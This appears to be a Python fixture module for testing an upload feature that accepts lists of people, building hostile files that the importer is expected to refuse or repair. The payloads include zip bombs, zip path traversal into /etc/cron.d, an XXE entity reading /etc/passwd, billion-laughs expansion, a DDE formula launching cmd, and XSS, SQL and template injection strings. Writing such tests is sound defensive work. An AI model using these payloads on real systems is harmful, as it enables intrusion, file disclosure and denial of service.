"""Files that somebody could bring where a list of people is asked for, made as they are needed."""

import gzip
import io
import json
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from functools import partial

from openpyxl import Workbook

UNREADABLE, TOO_LARGE = "cannot be read", "larger inside than any list"
HEAD = "name,email,occupation,languages,community\n"
_ROW = "Amara Okafor,amara@example.org,21300,en:8,Medicine Hat\n"
_XML = '<?xml version="1.0"?>'
_TYPES = "<worksheet><sheetData>%s</sheetData></worksheet>"


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """One file; `said` is what the refusal says, blank where the file can be looked at and its rows must be mended."""

    made: Callable[[], bytes]
    said: str = ""
    name: str = "people.csv"


def book(rows: Sequence[Sequence[object]], *, merged: str = "", **parts: bytes) -> bytes:
    """A workbook, and parts beside its own (`__` is a slash and `_` a dot in their names)."""
    made, out = Workbook(), io.BytesIO()
    sheet = made.active
    assert sheet is not None
    for row in rows:
        sheet.append(list(row))
    if merged:
        sheet.merge_cells(merged)
    made.save(out)
    return packed({name.replace("__", "/").replace("_", "."): part for name, part in parts.items()}, out.getvalue())


def packed(parts: dict[str, bytes], before: bytes = b"") -> bytes:
    """Parts as a zip file, or added to one."""
    out = io.BytesIO(before)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def sheet(cells: str, before: str = "") -> bytes:
    """The one part of a workbook in which cells are."""
    return packed({"xl/worksheets/sheet1.xml": (before + _TYPES % cells).encode()})


def _bomb() -> bytes:
    """A hundred and fifty megabytes in a few hundred kilobytes."""
    out = io.BytesIO(book([["name"]]))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("xl/big.bin", "w") as part:
        for _ in range(150):
            part.write(bytes(1_000_000))
    return out.getvalue()


def _lying() -> bytes:
    """A part that says it is small and is not."""
    honest = book([["name"]], xl__big_bin=b"0" * 5_000_000)
    return honest.replace((5_000_000).to_bytes(4, "little"), (10).to_bytes(4, "little"))


def _entities(declared: str) -> bytes:
    text = f"{_XML}<!DOCTYPE x [{declared}]>"
    parts = {
        "xl/worksheets/sheet1.xml": text + _TYPES % '<row r="1"><c r="A1" t="inlineStr"><is><t>&a;</t></is></c></row>'
    }
    return packed({name: part.encode() for name, part in parts.items()})


def _laughs() -> str:
    more = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    return f'<!ENTITY z "ha">{more.replace("&a;", "&z;")}<!ENTITY a "&j;">'


def _typed(*rows: str) -> Callable[[], bytes]:
    """A list in which something is wrong, below its header."""
    return lambda: (HEAD + "".join(f"{row}\n" for row in rows)).encode("utf-8", "surrogatepass")


def _person(name: str, occupation: str = "21300", email: str = "a@example.org") -> str:
    quoted = [f'"{cell.replace(chr(34), chr(34) * 2)}"' for cell in (name, email, occupation, "en:8", "Medicine Hat")]
    return ",".join(quoted)


def _refused() -> Iterator[tuple[str, Hostile]]:
    """What is no list of people, and says so."""
    for name, content in {
        "nothing": b"",
        "blanks": b" \n\n ",
        "a picture": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)),
        "zeros": bytes(4096),
        "half of an encoding": b"\xff\xfen\0a\0m\0e",
        "four bytes a letter": "name,email\nA B,a@b.org".encode("utf-32"),
        "an old Excel file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
        "another zip": b"PK\x03\x04" + b"x" * 50,
        "a program": b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff" + bytes(200),
        "a program of Linux": b"\x7fELF\x02\x01\x01" + bytes(64),
        "a compressed list": gzip.compress(HEAD.encode()),
        "an endless cell": b'name\n"' + b"x" * 200_000,
        "a mark and nothing": b"\xef\xbb\xbf",
        "a letter between zeros": (HEAD + _ROW).replace("Amara", "Am\0ara").encode(),
    }.items():
        yield name, Hostile(made=partial(bytes, content), said=UNREADABLE)
    yield "a torn workbook", Hostile(made=lambda: book([["name"]])[:-30], said=UNREADABLE)
    yield "half a workbook", Hostile(made=lambda: book([["name"]] * 99)[:2000], said=UNREADABLE, name="half.xlsx")
    yield "macros", Hostile(made=lambda: book([["name"]], xl__vbaProject_bin=b"x"), said="holds macros")
    yield "a zip bomb", Hostile(made=_bomb, said=TOO_LARGE)
    yield "a zip that lies", Hostile(made=_lying, said=UNREADABLE)
    yield "a zip in a zip", Hostile(made=lambda: packed({"people.xlsx": book([["name"]])}), said=UNREADABLE)
    yield "a way out of a zip", Hostile(made=lambda: packed({"../../etc/cron.d/x": b"name"}), said=UNREADABLE)
    yield "a document", Hostile(made=lambda: packed({"word/document.xml": b"<w/>"}), said=UNREADABLE, name="a.xlsx")
    yield (
        "ten thousand parts",
        Hostile(made=lambda: packed({f"xl/{number}": b"" for number in range(10_000)}), said=TOO_LARGE),
    )
    yield "an entity of this machine", Hostile(made=lambda: _entities('<!ENTITY a SYSTEM "file:///etc/passwd">'))
    yield "a billion laughs", Hostile(made=lambda: _entities(_laughs()))
    far = '<row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>1</v></c></row>'
    yield "a far corner", Hostile(made=lambda: sheet(far), said=TOO_LARGE)
    area = '<row r="1"><c r="IV1"><v>1</v></c></row><row r="1048576"><c r="A1048576"><v>1</v></c></row>'
    yield "an area without end", Hostile(made=lambda: sheet(area), said=TOO_LARGE)
    row = f"<row>{'<c><v>1</v></c>' * 1000}</row>"
    yield "cells without address", Hostile(made=lambda: sheet(row), said=TOO_LARGE)
    yield "a million columns", Hostile(made=lambda: b"," * 1_000_000 + b"\n", said="cannot|larger")
    yield "four hundred columns", Hostile(made=lambda: b"name," + b"x," * 400 + b"\n", said=TOO_LARGE)
    yield "too many bytes", Hostile(made=lambda: b"name,email\n" + b"x" * (10 * 1024 * 1024), said="file is too large")
    yield "too many rows", Hostile(made=lambda: HEAD.encode() + b"a,,21300,en,\n" * 60_000, said="more than 50020 rows")


def _looked_at() -> Iterator[tuple[str, Hostile]]:
    """What may look like a list and is none."""
    page = "<html><script>alert(1)</script><img src=x onerror=alert(1)>"
    yield "a page", Hostile(made=page.encode, name="people.html")
    yield "a drawing", Hostile(made=lambda: b'<svg onload="alert(1)"><script>alert(1)</script></svg>', name="a.svg.csv")
    yield "a printed page", Hostile(made=lambda: b"%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n%%EOF")
    yield "a printed workbook", Hostile(made=lambda: b"%PDF-1.7\n" + book([["name"], ["A B"]]), name="both.pdf")
    yield "a workbook with a page behind it", Hostile(made=lambda: book([["name"], ["A B"]]) + page.encode())
    yield "a letter of a program", Hostile(made=lambda: json.dumps([{"name": "A B"}] * 9).encode())
    yield "mail", Hostile(made=lambda: b"From: a@example.org\nTo: b@example.org\n\nname\n")
    head, row = HEAD.strip().split(","), ["Amara Okafor", "a@x", "21300", "en:8", "Medicine Hat"]
    yield (
        "a workbook with links elsewhere",
        Hostile(
            made=lambda: book([head, row], xl__externalLinks__externalLink1_xml=b'<externalLink xmlns="x"/>'),
            name="links.xlsx",
        ),
    )
    formula = ['=WEBSERVICE("http://example.org/"&A1)', "a@example.org", "21300", "en:8", "Medicine Hat"]
    yield "a workbook that asks the web", Hostile(made=lambda: book([head, formula]), name="asks.xlsx")
    title = ["The list of our people", "", "", "", ""]
    yield "merged titles", Hostile(made=lambda: book([title, head, row], merged="A1:E1"), name="merged.xlsx")
    yield "titles twice", Hostile(made=(HEAD.strip() + ",name,email\n" + _ROW.replace("21300", "x")).encode)
    yield "titles alone", Hostile(made=HEAD.encode)


def _rows() -> Iterator[tuple[str, Hostile]]:
    """Lists of people in which something is wrong."""
    yield "a calculation", Hostile(made=_typed(_person("=cmd|' /C calc'!A0", email="@SUM(1+1)*cmd")))
    yield "a script for a name", Hostile(made=_typed(_person("<script>alert(1)</script>", "<img onerror=alert(1)>")))
    yield "a template for a trade", Hostile(made=_typed(_person("{{ 7*7 }}", "{title.__class__} {0} %s {{ 7*7 }}")))
    yield "a command for the database", Hostile(made=_typed(_person("'); DROP TABLE people;--", "x' OR '1'='1")))
    yield "a name that runs backwards", Hostile(made=_typed(_person("\u202egro.elpmaxe@tac", "\u202e")))
    yield "a name of marks", Hostile(made=_typed(_person("a" + "\u0301" * 5_000)))
    yield "a name without end", Hostile(made=_typed(_person("x" * 60_000)))
    yield "a thousand lines in one cell", Hostile(made=_typed(_person("a\n" * 1_000)))
    yield "bells and escapes", Hostile(made=_typed(_person("\x07\x1b[2J\x08", "\x1b]0;x\x07")))
    yield "the same person a thousand times", Hostile(made=_typed(*[_person("Amara Okafor")] * 1_000))
    yield "one good and one wrong", Hostile(made=_typed(_person("Amara Okafor"), _person("Bo Li", "no such trade")))
    yield "half letters", Hostile(made=lambda: (HEAD + _ROW.replace("Amara", "Am\u0101ra")).encode("utf-16")[:-1])
    yield "another alphabet", Hostile(made=lambda: (HEAD + "Zoé Brûlé,zoe,21300,fr,Medicine Hat\n").encode("latin-1"))
    yield "old line ends", Hostile(made=lambda: (HEAD + _ROW.replace("21300", "x")).replace("\n", "\r").encode())
    yield "quotes upon quotes", Hostile(made=(HEAD + '"' * 9_999 + "\n").encode)
    yield "a number without end", Hostile(made=_typed("A B,a@example.org,1e309,en:99999999999,-1"))
    for number, name in enumerate(("../../etc/passwd.csv", 'a".csv', "a\\..\\b.csv", "\u202evsc.exe", "x" * 250)):
        yield f"a name of a file, {number}", Hostile(made=_typed(_person("A B", "no such trade")), name=name)


HOSTILE = dict((*_refused(), *_looked_at(), *_rows()))
